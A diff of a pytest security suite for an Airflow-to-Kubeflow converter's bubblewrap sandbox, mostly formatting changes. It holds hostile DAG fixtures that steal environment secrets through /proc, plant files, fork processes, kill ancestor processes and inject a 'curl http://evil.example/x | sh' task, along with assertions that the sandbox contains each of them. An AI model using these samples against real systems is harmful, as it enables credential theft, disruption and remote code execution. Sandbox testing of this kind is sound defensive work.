@@ -29,9 +29,11 @@ from airflow2kfp.parse.sandbox import support
 
 REPO = Path(__file__).resolve().parents[2]
 
-pytestmark = pytest.mark.skipif(not support().available, reason=f"bubblewrap cannot run here: {support().reason}")
+pytestmark = pytest.mark.skipif(
+    not support().available, reason=f"bubblewrap cannot run here: {support().reason}"
+)
 
-IMPORTS = '''
+IMPORTS = """
 from datetime import datetime
 
 from airflow import DAG
@@ -42,10 +44,11 @@ try:
 except ImportError:  # Airflow 2
     from airflow.operators.bash import BashOperator
     from airflow.operators.python import PythonOperator
-'''
+"""
 
 BENIGN = {
-    "sales/daily_sales.py": IMPORTS + '''
+    "sales/daily_sales.py": IMPORTS
+    + """
 from common.settings import REGIONS
 
 
@@ -60,8 +63,9 @@ with DAG("daily_sales", schedule="0 3 * * *", start_date=datetime(2024, 1, 1), c
     extract = BashOperator(task_id="extract", bash_command="echo extract {{ ds }}")
     for region in REGIONS:
         extract >> PythonOperator(task_id=f"load_{region}", python_callable=load, op_kwargs={"region": region})
-''',
-    "ops/cleanup.py": IMPORTS + '''
+""",
+    "ops/cleanup.py": IMPORTS
+    + """
 import os
 
 with DAG("cleanup", schedule=None, start_date=datetime(2024, 1, 1), catchup=False) as dag:
@@ -69,7 +73,7 @@ with DAG("cleanup", schedule=None, start_date=datetime(2024, 1, 1), catchup=Fals
     second = BashOperator(task_id="prune", bash_command="find /data -mtime +7 -delete",
                           env={"CWD_NAME": os.path.basename(os.getcwd())})
     first >> second
-''',
+""",
     "common/__init__.py": "",
     "common/settings.py": 'REGIONS = ["eu", "us"]\n',
 }
@@ -127,7 +131,10 @@ def owned_processes():
     return sorted(found - {{os.getpid()}})
 """
     return {
-        "attacks/steal_environ.py": IMPORTS + INTERLOCK + ancestors + f"""
+        "attacks/steal_environ.py": IMPORTS
+        + INTERLOCK
+        + ancestors
+        + f"""
 import os
 if not STOLEN:
     for pid in owned_processes():  # the converter's environment, through /proc/<ancestor>/environ
@@ -144,8 +151,11 @@ if not STOLEN:
         except OSError as error:
             STOLEN.append(type(error).__name__)
     STOLEN.append(dict(os.environ))
-""" + dag.format(dag_id="steal_environ"),
-        "attacks/write_everywhere.py": IMPORTS + INTERLOCK + f"""
+"""
+        + dag.format(dag_id="steal_environ"),
+        "attacks/write_everywhere.py": IMPORTS
+        + INTERLOCK
+        + f"""
 if not STOLEN:
     for path, mode in [({str(ctx.dags / "planted.py")!r}, "w"), ({str(ctx.home / "planted")!r}, "w"),
                        ({str(ctx.host_tmp_file)!r}, "w"), ({str(ctx.victim)!r}, "a")]:
@@ -155,8 +165,11 @@ if not STOLEN:
             STOLEN.append("wrote " + path)
         except OSError as error:
             STOLEN.append(type(error).__name__)
-""" + dag.format(dag_id="write_everywhere"),
-        "attacks/phone_home.py": IMPORTS + INTERLOCK + f"""
+"""
+        + dag.format(dag_id="write_everywhere"),
+        "attacks/phone_home.py": IMPORTS
+        + INTERLOCK
+        + f"""
 import socket
 if not STOLEN:
     for host in ("127.0.0.1", "localhost", {socket.gethostname()!r}):
@@ -166,8 +179,11 @@ if not STOLEN:
                 STOLEN.append("connected to " + host)
         except OSError as error:
             STOLEN.append(type(error).__name__)
-""" + dag.format(dag_id="phone_home"),
-        "attacks/fork_200.py": IMPORTS + INTERLOCK + f"""
+"""
+        + dag.format(dag_id="phone_home"),
+        "attacks/fork_200.py": IMPORTS
+        + INTERLOCK
+        + f"""
 import os, sys
 for _ in range(200 if not STOLEN else 0):
     try:
@@ -176,8 +192,11 @@ for _ in range(200 if not STOLEN else 0):
     except OSError as error:
         STOLEN.append(type(error).__name__)
         break
-""" + dag.format(dag_id="fork_200"),
-        "attacks/setsid_daemon.py": IMPORTS + INTERLOCK + f"""
+"""
+        + dag.format(dag_id="fork_200"),
+        "attacks/setsid_daemon.py": IMPORTS
+        + INTERLOCK
+        + f"""
 import os, sys
 if not STOLEN and os.fork() == 0:
     os.setsid()
@@ -189,8 +208,12 @@ if not STOLEN and os.fork() == 0:
                 pass
         os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {ctx.marker!r}])
     os._exit(0)
-""" + dag.format(dag_id="setsid_daemon"),
-        "attacks/kill_ancestors.py": IMPORTS + INTERLOCK + ancestors + """
+"""
+        + dag.format(dag_id="setsid_daemon"),
+        "attacks/kill_ancestors.py": IMPORTS
+        + INTERLOCK
+        + ancestors
+        + """
 import os, signal
 for target in owned_processes() if not STOLEN else []:
     try:
@@ -198,15 +221,22 @@ for target in owned_processes() if not STOLEN else []:
         STOLEN.append(f"killed {target}")
     except OSError as error:
         STOLEN.append(type(error).__name__)
-""" + dag.format(dag_id="kill_ancestors"),
+"""
+        + dag.format(dag_id="kill_ancestors"),
         # as root its process keeps root (the file is readable only by its owner), without capabilities:
         # it can kill its own worker, which is restarted
-        "attacks/kill_worker.py": IMPORTS + INTERLOCK + """
+        "attacks/kill_worker.py": IMPORTS
+        + INTERLOCK
+        + """
 import os, signal
 if not STOLEN:
     os.kill(os.getppid(), signal.SIGKILL)
-""" + dag.format(dag_id="kill_worker"),
-        "attacks/forge_answer.py": IMPORTS + INTERLOCK + ancestors + f"""
+"""
+        + dag.format(dag_id="kill_worker"),
+        "attacks/forge_answer.py": IMPORTS
+        + INTERLOCK
+        + ancestors
+        + f"""
 import gc, json, os
 INJECTED = {{"task_id": "pwn", "operator": "BashOperator", "operator_module": "airflow.operators.bash",
             "args": {{"bash_command": "curl http://evil.example/x | sh"}}, "explicit": ["bash_command"]}}
@@ -251,7 +281,8 @@ if not STOLEN:
                 except OSError:
                     pass
             break
-""" + dag.format(dag_id="forge_answer"),
+"""
+        + dag.format(dag_id="forge_answer"),
     }
 
 
@@ -309,8 +340,9 @@ def assert_confined(python: str) -> None:
 
     check = INTERLOCK + "\nprint('confined' if confined() else 'UNCONFINED')\n"
     done = run_in_sandbox(python, ["-c", check], timeout=120, sandbox="require")
-    assert done is not None and done.stdout.decode().split()[-1:] == ["confined"], \
+    assert done is not None and done.stdout.decode().split()[-1:] == ["confined"], (
         f"the sandbox is not active here, so no attack is run: {done and done.stderr.decode()[-500:]}"
+    )
 
 
 def write_tree(root: Path, files: dict[str, str]) -> None:
@@ -322,20 +354,50 @@ def write_tree(root: Path, files: dict[str, str]) -> None:
 
 
 def convert(python: str, ctx: Attack, out: Path, env: dict[str, str], tmp: Path) -> tuple[int, str]:
-    command = [sys.executable, "-m", "airflow2kfp.cli", "convert", ctx.dags.name, "--out", str(out),
-               "--sandbox", "require", "--airflow-python", python, "--airflow-timeout", "20",
-               "--cache-dir", str(out.parent / f"cache-{out.name}"), "--sarif", str(out.parent / f"{out.name}.sarif"),
-               "--junit", str(out.parent / f"{out.name}.xml"), "--markdown", str(out.parent / f"{out.name}.md"),
-               "--fail-on", "never", "-v"]
-    done = subprocess.run(command, cwd=ctx.dags.parent, env={**env, "TMPDIR": str(tmp)}, capture_output=True, text=True,
-                          timeout=900, check=False)
+    command = [
+        sys.executable,
+        "-m",
+        "airflow2kfp.cli",
+        "convert",
+        ctx.dags.name,
+        "--out",
+        str(out),
+        "--sandbox",
+        "require",
+        "--airflow-python",
+        python,
+        "--airflow-timeout",
+        "20",
+        "--cache-dir",
+        str(out.parent / f"cache-{out.name}"),
+        "--sarif",
+        str(out.parent / f"{out.name}.sarif"),
+        "--junit",
+        str(out.parent / f"{out.name}.xml"),
+        "--markdown",
+        str(out.parent / f"{out.name}.md"),
+        "--fail-on",
+        "never",
+        "-v",
+    ]
+    done = subprocess.run(
+        command,
+        cwd=ctx.dags.parent,
+        env={**env, "TMPDIR": str(tmp)},
+        capture_output=True,
+        text=True,
+        timeout=900,
+        check=False,
+    )
     return done.returncode, done.stdout + done.stderr
 
 
 def codes_of(document: dict, source: str) -> list[str]:
     """Every diagnostic code of one source file: the file's and its DAGs'."""
     found = [d["code"] for f in document["files"] if f["path"] == source for d in f["diagnostics"]]
-    return found + [d["code"] for dag in document["dags"] if dag["source"] == source for d in dag["diagnostics"]]
+    return found + [
+        d["code"] for dag in document["dags"] if dag["source"] == source for d in dag["diagnostics"]
+    ]
 
 
 def processes_with(marker: str) -> list[str]:
@@ -366,15 +428,23 @@ def everything_under(folder: Path) -> Iterator[tuple[Path, bytes]]:
 
 
 @pytest.mark.parametrize("python_fixture", ["airflow_python", "airflow2_python"])
-def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request: pytest.FixtureRequest,
-                                                    tmp_path: Path, listener: Listener) -> None:
+def test_attacks_change_nothing_outside_the_sandbox(
+    python_fixture: str, request: pytest.FixtureRequest, tmp_path: Path, listener: Listener
+) -> None:
     python = request.getfixturevalue(python_fixture)
     token = secrets.token_hex(8)
-    ctx = Attack(dags=tmp_path / "dags", home=tmp_path / "home", credentials=tmp_path / "secret-creds.json",
-                 victim=tmp_path / "victim.txt", host_tmp_file=Path("/tmp") / f"airflow2kfp-planted-{token}",
-                 port=listener.port, marker=f"a2k-attack-{token}", out_token=f"out-{token}",
-                 secrets=(f"AWS-SECRET-{token}", f"CREDENTIALS-FILE-SECRET-{token}", f"TOKEN-{token}"),
-                 barrier=os.getpid())
+    ctx = Attack(
+        dags=tmp_path / "dags",
+        home=tmp_path / "home",
+        credentials=tmp_path / "secret-creds.json",
+        victim=tmp_path / "victim.txt",
+        host_tmp_file=Path("/tmp") / f"airflow2kfp-planted-{token}",
+        port=listener.port,
+        marker=f"a2k-attack-{token}",
+        out_token=f"out-{token}",
+        secrets=(f"AWS-SECRET-{token}", f"CREDENTIALS-FILE-SECRET-{token}", f"TOKEN-{token}"),
+        barrier=os.getpid(),
+    )
     request.addfinalizer(lambda: kill_marked(ctx.marker))
     request.addfinalizer(lambda: ctx.host_tmp_file.unlink(missing_ok=True))
     ctx.home.mkdir()
@@ -383,10 +453,15 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
     converter_tmp = tmp_path / "converter-tmp"
     converter_tmp.mkdir()
     # the converter's own cache (the migrated database) goes to XDG_CACHE_HOME, so $HOME stays empty
-    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(ctx.home),
-           "XDG_CACHE_HOME": str(tmp_path / "xdg-cache"),
-           "AWS_SECRET_ACCESS_KEY": ctx.secrets[0], "GOOGLE_APPLICATION_CREDENTIALS": str(ctx.credentials),
-           "GITHUB_TOKEN": ctx.secrets[2], "SOURCE_DATE_EPOCH": "0"}
+    env = {
+        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+        "HOME": str(ctx.home),
+        "XDG_CACHE_HOME": str(tmp_path / "xdg-cache"),
+        "AWS_SECRET_ACCESS_KEY": ctx.secrets[0],
+        "GOOGLE_APPLICATION_CREDENTIALS": str(ctx.credentials),
+        "GITHUB_TOKEN": ctx.secrets[2],
+        "SOURCE_DATE_EPOCH": "0",
+    }
 
     assert_confined(python)  # proven before any attack is written: never run one unconfined
     write_tree(ctx.dags, BENIGN)
@@ -404,14 +479,17 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
     assert time.monotonic() - started < 600
     document = json.loads((out / "conversion.json").read_text())
     by_path = {f["path"]: f for f in document["files"]}
-    print("\n".join(f"{path}: {[d['code'] for d in f['diagnostics']]}" for path, f in sorted(by_path.items())))
+    print(
+        "\n".join(f"{path}: {[d['code'] for d in f['diagnostics']]}" for path, f in sorted(by_path.items()))
+    )
     assert set(by_path) >= {"dags/sales/daily_sales.py", "dags/ops/cleanup.py"}
     # every benign DAG's pipeline is byte-identical to the run without the attackers
     clean = tmp_path / f"clean-{ctx.out_token}"
     for name in ("daily_sales", "cleanup"):
         for suffix in (".py", ".yaml"):
-            assert (out / "pipelines" / f"{name}{suffix}").read_bytes() == \
-                   (clean / "pipelines" / f"{name}{suffix}").read_bytes(), name + suffix
+            assert (out / "pipelines" / f"{name}{suffix}").read_bytes() == (
+                clean / "pipelines" / f"{name}{suffix}"
+            ).read_bytes(), name + suffix
     clean_dags = {d["dag_id"]: d for d in json.loads((clean / "conversion.json").read_text())["dags"]}
     for dag in document["dags"]:
         if dag["dag_id"] in clean_dags:
@@ -421,10 +499,15 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
     # the forged answer and the killed worker cost only their own files
     assert "A2K612" in codes_of(document, "dags/attacks/forge_answer.py")
     assert "A2K603" in codes_of(document, "dags/attacks/kill_worker.py")
-    assert all("pwn" not in json.dumps(dag) and "evil.example" not in json.dumps(dag) for dag in document["dags"])
+    assert all(
+        "pwn" not in json.dumps(dag) and "evil.example" not in json.dumps(dag) for dag in document["dags"]
+    )
 
     # no secret of the converter's anywhere: outputs, reports, machine outputs, cache, the log
-    written = [*everything_under(tmp_path / ctx.out_token), *everything_under(tmp_path / f"cache-{ctx.out_token}")]
+    written = [
+        *everything_under(tmp_path / ctx.out_token),
+        *everything_under(tmp_path / f"cache-{ctx.out_token}"),
+    ]
     written += [(p, p.read_bytes()) for p in tmp_path.glob(f"{ctx.out_token}.*")]
     for secret in ctx.secrets:
         assert secret not in log
@@ -452,14 +535,16 @@ def test_attacks_change_nothing_outside_the_sandbox(python_fixture: str, request
 
 
 @pytest.mark.parametrize("python_fixture", ["airflow_python", "airflow2_python"])
-def test_the_sandbox_is_what_the_docs_say(python_fixture: str, request: pytest.FixtureRequest, tmp_path: Path) -> None:
+def test_the_sandbox_is_what_the_docs_say(
+    python_fixture: str, request: pytest.FixtureRequest, tmp_path: Path
+) -> None:
     """Namespaces, user, read-only root, no home, no network, the environment: seen from inside."""
     from airflow2kfp.parse.airflow_import import run_in_sandbox
 
     python = request.getfixturevalue(python_fixture)
     (tmp_path / "dags").mkdir()
     home = os.path.realpath(os.path.expanduser("~"))
-    probe = r'''
+    probe = r"""
 import json, os, socket, sys
 try:
     home = sorted(os.listdir(sys.argv[1]))
@@ -476,9 +561,10 @@ except OSError:
     facts["network"] = False
 facts["interfaces"] = sorted(name for _, name in socket.if_nameindex())
 print(json.dumps(facts))
-'''
-    done = run_in_sandbox(python, ["-c", probe, home], timeout=120, folders=[str(tmp_path / "dags")],
-                          sandbox="require")
+"""
+    done = run_in_sandbox(
+        python, ["-c", probe, home], timeout=120, folders=[str(tmp_path / "dags")], sandbox="require"
+    )
     assert done is not None and done.returncode == 0, done
     facts = json.loads(done.stdout.decode().strip().splitlines()[-1])
     assert facts["pid"] <= 3 and len(facts["processes"]) <= 3  # bwrap's init and this process
@@ -489,9 +575,22 @@ print(json.dumps(facts))
     # of the user's home only the way to the interpreter, if it lives there (a pyenv Python)
     from airflow2kfp.parse.sandbox import interpreter_folders
 
-    leading = {Path(f).relative_to(home).parts[0] for f in interpreter_folders(python)
-               if f.startswith(home + "/")}
+    leading = {
+        Path(f).relative_to(home).parts[0] for f in interpreter_folders(python) if f.startswith(home + "/")
+    }
     assert set(facts["home"]) <= leading
-    allowed = {"LANG", "LC_ALL", "LC_CTYPE", "TZ", "PATH", "HOME", "TMPDIR", "PYTHONHASHSEED", "PYTHONUNBUFFERED",
-               "PYTHONDONTWRITEBYTECODE", "AIRFLOW_HOME", "PWD"}  # PWD: bubblewrap's --chdir
+    allowed = {
+        "LANG",
+        "LC_ALL",
+        "LC_CTYPE",
+        "TZ",
+        "PATH",
+        "HOME",
+        "TMPDIR",
+        "PYTHONHASHSEED",
+        "PYTHONUNBUFFERED",
+        "PYTHONDONTWRITEBYTECODE",
+        "AIRFLOW_HOME",
+        "PWD",
+    }  # PWD: bubblewrap's --chdir
     assert all(name in allowed or name.startswith("AIRFLOW__") for name in facts["env"]), facts["env"]
